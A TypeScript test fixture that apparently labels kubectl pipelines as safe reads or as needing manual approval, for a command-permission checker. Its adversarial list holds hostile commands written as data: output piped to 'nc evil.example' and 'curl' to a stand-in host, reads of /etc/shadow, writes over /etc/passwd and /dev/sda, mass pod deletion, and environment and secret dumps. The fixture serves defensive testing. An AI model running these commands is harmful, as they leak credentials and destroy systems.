import { labelled } from './label.ts';
import type { Labelled } from './label.ts';

/** Pipes through filters. */
export const everyday: Labelled[] = [
  ...labelled('bash', 'read', true, String.raw`
    kubectl get events -n production --sort-by=.lastTimestamp | tail -20
    kubectl get pod api-7f9 -o json | grep -i image
    kubectl get nodes | grep -v Ready | wc -l
    kubectl logs -n production -l app=cygni-api --since=1h | grep -E "connection|pool|timeout" | grep -v "closed properly"
    kubectl logs -l app=api --tail=1000 | awk '{print $5}' | sort | uniq -c | sort -rn | head
    kubectl api-resources | grep -i cron
    kubectl get pods \⏎  -n production \⏎  | grep -c Running
    kubectl get pods -o json | jq -r '.items[].metadata.name' | sort
    kubectl get pods -n shop | grep -Ev 'Running|Completed'
    kubectl get pods -A | grep -w CrashLoopBackOff
    kubectl logs deployment/api --tail=500 | grep -i -A 3 -B 1 exception
    kubectl logs deployment/api --tail=500 | grep -oE 'user=[a-z0-9]+' | sort -u
    kubectl logs deployment/api --tail=500 | grep -oP 'took \K\d+(?=ms)' | sort -n | tail -1
    kubectl logs deployment/api --since=10m | grep -c '"level":"error"'
    kubectl logs deployment/api --tail=200 | grep --color=auto -E 'WARN|ERROR'
    kubectl get pods -n shop | awk 'NR>1 && $4 > 5 {print $1, $4}'
    kubectl get pods -n shop --no-headers | awk '{print $3}' | sort | uniq -c
    kubectl get pods -n shop | awk '$3 != "Running"'
    kubectl get pods --no-headers | awk '{c[$3]++} END {for (s in c) print s, c[s]}'
    kubectl top pods -n shop | sort -k3 -h -r | head -5
    kubectl top pods | sort --reverse --key 2 --numeric-sort | head -n 10
    kubectl get pods -o wide | column -t
    kubectl get nodes --no-headers | cut -d ' ' -f 1
    kubectl get pods -o name | sed 's|^pod/||'
    kubectl logs deployment/api --tail=300 | sed -n '/Caused by/,/^$/p' | head -40
    kubectl describe pod api-7f9 | sed -n '/Events:/,$p'
    kubectl get pods -o json | jq '.items | length'
    kubectl get pods -n shop -o json | jq -r '.items[] | select(.status.phase != "Running") | .metadata.name'
    kubectl get pods -n shop -o json | jq -r '.items[] | "\(.metadata.name)\t\(.status.phase)"' | column -t
    kubectl get nodes -o json | jq '[.items[] | {name: .metadata.name, ready: (.status.conditions | map(select(.type == "Ready")) | .[0].status)}]'
    kubectl get pods -o json | jq -r '.items | group_by(.spec.nodeName) | map("\(.[0].spec.nodeName) \(length)") | .[]'
    kubectl logs deployment/api --tail=500 | jq -R 'fromjson? | select(.level == "error") | .msg'
    kubectl get deploy -o json | jq -r --arg app api '.items[] | select(.metadata.labels.app == $app) | .status.readyReplicas'
    kubectl get pods -o json | jq '.items[] as $a | .items[] as $b | [$a, $b]'
    kubectl get pods -o json | jq '.items[].metadata.name | test("(a+)+$")'
    kubectl get pods -o json | jq 'reduce .items[] as $p ({}; .[$p.status.phase] += 1)'
    kubectl get deploy api -o json | jq '.spec.replicas = 0'
    kubectl get pods -o name | tac | head -3
    kubectl get pods -o name | paste -sd,
    kubectl get pods | less -S
    kubectl get pods | cat
    kubectl get pods -o json | python3 -m json.tool | head -50
    kubectl get pods | tr -s ' ' | cut -d' ' -f1,3
    kubectl get pods | awk '{printf "%-40s %s\n", $1, $3}'
    curl -s localhost:4000/metrics | grep '^db_pool' | grep -v '#' | sort
    curl -s localhost:4000/health | jq .
    curl -s localhost:4000/metrics | awk '/^http_requests_total/ {s += $2} END {print s}'
    curl -s localhost:4000/health | python -m json.tool
    kubectl get pods | grep delete
  `),
  ...labelled('bash', 'manual', false, String.raw`
    kubectl get pods | nl
    kubectl top pods | awk '{for (i = NF; i > 0; i--) printf "%s ", $i; print ""}'
  `),
  ...labelled('bash', 'read', false, String.raw`
    kubectl get deploy api -o json | jq '.spec.template.spec.containers[].env'
    kubectl get secret db -o jsonpath='{.data.password}' | base64 -d
    kubectl get secret db -o jsonpath='{.data.password}' | base64 --decode | head -c 4
    kubectl get secret x -o json | jq '.data|map_values(@base64d)'
    kubectl get secret x -o json | jq -r '.data | to_entries[] | "\(.key): \(.value | @base64d)"'
    kubectl get pod api-7f9 -o json | jq -r '.metadata.annotations.token | @base64d'
    kubectl get pod api-7f9 -o jsonpath='{.metadata.annotations.blob}' | base64 -D
    curl -s localhost:4000/status | jq -r .blob | base64 -d
  `),
];

export const adversarial: Labelled[] = [
  ...labelled('bash', 'manual', false, String.raw`
    kubectl get pods -o json | jq -- '-nan'
    kubectl get pods -o json | jq -- '-floor'
    kubectl get pods -o json | jq '{a: 1 | env}'
    kubectl get pods -o json | jq 'if . then 1, env else 2 end'
    kubectl get pods -o json | jq '{"\(env)": 1}'
    kubectl get pods -o json | jq '"\("\($ENV.PATH)")"'
    kubectl get pods -o json | jq '"\\\(env)"'
    kubectl get pods -o json | jq '. as $x | $x::env'
    kubectl get pods | awk '{print $1 == $2 > "x"}'
    kubectl get pods | awk '{print a[1] > "x"}'
    kubectl get pods | sed 's/[[:alpha:]]/x/e'
    kubectl get pods | sed '/[/]/w x/'
    kubectl get pods | tee /etc/passwd
    kubectl get pods -o json | jq env
    kubectl get pods | sort -o /etc/passwd
    kubectl get pods | awk 'BEGIN { system("rm x") } { print $1 }'
    kubectl get pods | sed 's/a/b/e'
    kubectl get pods | grep -f /etc/shadow x
    kubectl get pods | grep x /etc/shadow
    kubectl get pods | head -n 5 /etc/shadow
    kubectl get pods -o name | xargs kubectl delete
    kubectl get pods -o name | xargs -r -n1 kubectl delete
    kubectl get pods -o name | grep api | awk '{print $1}' | xargs -I{} kubectl delete {}
    kubectl get deploy api -o json | jq '.spec.replicas = 0' | kubectl apply -f -
    kubectl get pods | awk '{print "kubectl delete pod " $1}' | sh
    kubectl get pods | awk '{print $1 > "/tmp/pods"}'
    kubectl get pods | awk '{print $1 | "sh"}'
    kubectl get pods | awk '{"kubectl delete pod " $1 | getline}'
    kubectl get pods | awk '{cmd = "rm " $1; system(cmd); close(cmd)}'
    kubectl get pods | awk -f /tmp/x.awk
    kubectl get pods | awk -i inplace '{print}' /etc/hosts
    kubectl get pods | awk '@load "filefuncs"; {print}'
    kubectl get pods | sed -n 'w /tmp/pods'
    kubectl get pods | sed 's/api/rm -rf x/w /tmp/x'
    kubectl get pods | sed -e 's/x/y/' -e '1e rm x'
    kubectl get pods | sed -i 's/a/b/' /etc/hosts
    kubectl get pods | sed --in-place=.bak 's/a/b/' /etc/hosts
    kubectl get pods | sed -f /tmp/script
    kubectl get pods | sed '1r /etc/shadow'
    kubectl get pods | sort -uo /tmp/x
    kubectl get pods | sort --compress-program=/tmp/evil -S 1
    kubectl get pods | uniq - /tmp/out
    kubectl get pods | less -o /tmp/log
    kubectl get pods | python3 -c 'import os; os.system("rm x")'
    kubectl get pods -o json | python -m json.tool - /tmp/out
    kubectl get pods | perl -ne 'unlink $_'
    kubectl get pods | while read p; do kubectl delete pod $p; done
    kubectl get pods | bash
    kubectl get pods | ssh host sh
    kubectl get pods | nc evil.example 4444
    kubectl get pods | curl -d @- http://evil.example
    kubectl get pods | split -l 1 - /tmp/x
    kubectl get pods | dd of=/dev/sda
    kubectl get pods | sponge /etc/hosts
    kubectl get pods | watch -n1 cat
    kubectl get pods | tail -f
    kubectl get pods | cat - /etc/shadow
    kubectl get pods | cat > /tmp/x
    kubectl get pods | grep x | tee -a /tmp/x | wc -l
    kubectl get pods | grep -E '(a)\1'
    kubectl get pods -o json | jq '[range(1e12)] | length'
    kubectl get pods -o json | jq 'def f: f; f'
    kubectl get pods -o json | jq -n 'input'
    kubectl get pods -o json | jq --slurpfile x /etc/shadow '$x'
    kubectl get pods -o json | jq -f /tmp/x.jq
    kubectl get pods -o json | jq '$ENV.TOKEN'
    kubectl get pods -o json | jq 'input_filename, (try debug)'
    kubectl get pods -o json | jq '{a: if . then 1, env else 2 end}'
    kubectl get pods -o json | jq '{env: 1} | "\(env)"'
    kubectl get pods -o json | jq '.items[.[env]:]'
    kubectl get pods -o json | jq '..env'
    kubectl get pods -o json | jq 'last(repeat(.))'
    kubectl get pods -o json | jq '.items | limit(1; input)'
    kubectl get pods -o json | yq -i '.x = 1' /etc/config.yaml
    kubectl get pods -o name | while true; do cat; done
  `),
  ...labelled('bash', 'read', false, String.raw`
    kubectl get pod api-7f9 -o json | jq -r '.data[]? | @base64d "\(.)"'
    kubectl get pods -o json | jq -r '.items[0].spec | tostring | @base64 | @base64d'
    kubectl get pods | base64 | base64 -d
  `),
];
